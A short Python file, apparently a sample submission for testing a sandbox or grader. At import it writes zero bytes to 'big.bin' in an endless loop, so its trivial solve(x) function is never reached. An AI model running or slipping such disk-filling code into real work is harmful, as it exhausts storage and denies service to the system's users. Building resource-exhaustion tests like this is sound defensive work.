# Writes an unbounded file in the working directory.
with open("big.bin", "wb") as handle:
    while True:
        handle.write(b"\0" * (1 << 20))


def solve(x):
    return x * x
